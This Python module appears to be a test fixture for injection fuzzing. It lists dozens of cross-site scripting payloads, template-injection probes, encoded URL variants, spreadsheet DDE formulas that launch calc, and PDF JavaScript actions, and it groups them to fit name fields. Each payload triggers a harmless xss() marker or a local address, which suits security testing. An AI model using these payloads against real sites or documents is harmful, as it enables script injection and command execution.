"""Texts that run `xss()` wherever a page, a chart or a file takes text for anything else."""

from __future__ import annotations

NAME_LENGTH = 200
_EVENTS = "error load toggle focus mouseover click animationstart begin pointerenter wheel".split()
_TAGS = (
    "<script>xss()</script>",
    "<SCRIPT SRC=data:text/javascript,xss()></SCRIPT>",
    "<script type=module>xss()</script>",
    "<script src=//127.0.0.1:1/x.js></script>",
    "<scr<script>ipt>xss()</scr</script>ipt>",
    "</script><script>xss()</script>",
    "</textarea><script>xss()</script>",
    "</title><script>xss()</script>",
    "</style><script>xss()</script>",
    "</option></select><img src=x onerror=xss()>",
    "</template><img src=x onerror=xss()>",
    "</noscript><img src=x onerror=xss()>",
    "<noscript><p title='</noscript><img src=x onerror=xss()>'>",
    "--><img src=x onerror=xss()><!--",
    "]]><img src=x onerror=xss()>",
    "<![CDATA[><img src=x onerror=xss()>]]>",
    "<img src=x onerror=xss()>",
    "<img src=x onerror='xss()'",
    "<img/src=x/onerror=xss()>",
    "<image src=x onerror=xss()>",
    "<img src=x onerror=&#120;ss()>",
    "<video><source onerror=xss()></video>",
    "<audio src=x onerror=xss()>",
    "<svg onload=xss()>",
    "<svg/onload=xss()//",
    "<svg><script>xss()</script></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:xss()><text y=20>link</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=xss()/>#x'>",
    "<math><mtext><mglyph><style><img src=x onerror=xss()>",
    "<math href=javascript:xss()>link</math>",
    "<body onload=xss()>",
    "<details open ontoggle=xss()>",
    "<input autofocus onfocus=xss()>",
    "<select autofocus onfocus=xss()>",
    "<textarea autofocus onfocus=xss()>",
    "<marquee onstart=xss()>",
    "<iframe src=javascript:parent.xss()></iframe>",
    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
    "<object data='data:text/html,<script>parent.xss()</script>'></object>",
    "<embed src=javascript:xss()>",
    "<form action=javascript:xss()><button autofocus>go</button></form>",
    "<button formaction=javascript:xss()>go</button>",
    "<a href=javascript:xss()>link</a>",
    "<a href='java&#9;script:xss()'>link</a>",
    "<a href=data:text/html,<script>xss()</script>>link</a>",
    "<base href=javascript:xss()//>",
    "<base href=//127.0.0.1:1/>",
    "<meta http-equiv=refresh content='0;url=javascript:xss()'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>xss()</script>'>",
    "<link rel=stylesheet href=data:text/css,*{}>",
    "<link rel=import href=data:text/html,<script>xss()</script>>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=xss()>",
    "<style>*{background:url(javascript:xss())}</style>",
    "<div hx-on:load=xss()>",
    "<div hx-get=/ hx-trigger=load hx-on::after-request=xss()>",
    "<div hx-vals='js:{a:xss()}' hx-get=/ hx-trigger=load></div>",
    "<div data-hx-on-load=xss()>",
    "<x contenteditable onblur=xss()>lose</x>",
    "<p style=x:expression(xss())>",
    "<dialog open oncancel=xss()>",
    "<isindex action=javascript:xss() type=image>",
)
_ATTRIBUTES = (
    '" onmouseover="xss()',
    "' onmouseover='xss()",
    '" autofocus onfocus=xss() x="',
    "' autofocus onfocus=xss() x='",
    "` onfocus=xss() autofocus x=`",
    '"><script>xss()</script>',
    "'><script>xss()</script>",
    '"><img src=x onerror=xss()>',
    "'><svg onload=xss()>",
    '" style="animation-name:x" onanimationstart="xss()',
    '"/><svg/onload=xss()>',
    '" hx-on:load="xss()" x="',
    '" srcdoc="<script>xss()</script>',
    "x onerror=xss()",
)
_SCRIPTS = (
    "';xss();//",
    '";xss();//',
    "\\';xss();//",
    '\\";xss();//',
    "`;xss();//",
    "${xss()}",
    "{{xss()}}",
    "{{constructor.constructor('xss()')()}}",
    "{% print xss() %}",
    "{{''.__class__.__mro__}}",
    "#{xss()}",
    "<%= xss() %>",
    '"}</script><script>xss()</script>',
    "\\u003cscript\\u003exss()\\u003c/script\\u003e",
    "\\x3cscript\\x3exss()\\x3c/script\\x3e",
    "'-xss()-'",
    '"-xss()-"',
    "</script\t><script\t>xss()</script>",
)
_ADDRESSES = (
    "javascript:xss()",
    "JaVaScRiPt:xss()",
    "javascript://%0axss()",
    "java\tscript:xss()",
    "data:text/html,<script>xss()</script>",
    "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==",
    "vbscript:xss()",
    "//127.0.0.1:1/%22onerror=xss()",
    "%3Cscript%3Exss()%3C/script%3E",
    "%253Cscript%253Exss()%253C/script%253E",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "&#60;script&#62;xss()&#60;/script&#62;",
    "＜script＞xss()＜/script＞",
    "+ADw-script+AD4-xss()+ADw-/script+AD4-",
)
_CHARTS_AND_FILES = (
    "<a href='javascript:xss()'>in a chart</a>",
    "<b onclick=xss()>in a chart</b>",
    "$\\href{javascript:xss()}{x}$",
    "[link](javascript:xss())",
    "![x](x' onerror='xss())",
    '=HYPERLINK("javascript:xss()")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    ") /JS (xss\\(\\)) /S /JavaScript (",
    ">> /OpenAction << /S /JavaScript /JS (xss) >> <<",
)
PAYLOADS = (
    *_TAGS,
    *_ATTRIBUTES,
    *_SCRIPTS,
    *_ADDRESSES,
    *_CHARTS_AND_FILES,
    *(f"<p on{event}=xss() tabindex=1 autofocus>{event}</p>" for event in _EVENTS),
)


def texts() -> list[tuple[str, ...]]:
    """All payloads in groups that fit a name together: a text runs what any part of it can run.

    What is about a cell's first character, or is refused as a name, stands alone.
    """
    alone = [p for p in PAYLOADS if p[0] in "=@+-" or not p.isprintable()]
    groups: list[tuple[str, ...]] = [(payload,) for payload in alone]
    group: tuple[str, ...] = ()
    for payload in PAYLOADS:
        if payload in alone:
            continue
        if len(" ".join((*group, payload))) > NAME_LENGTH:
            groups.append(group)
            group = ()
        group = (*group, payload)
    return [*groups, group]
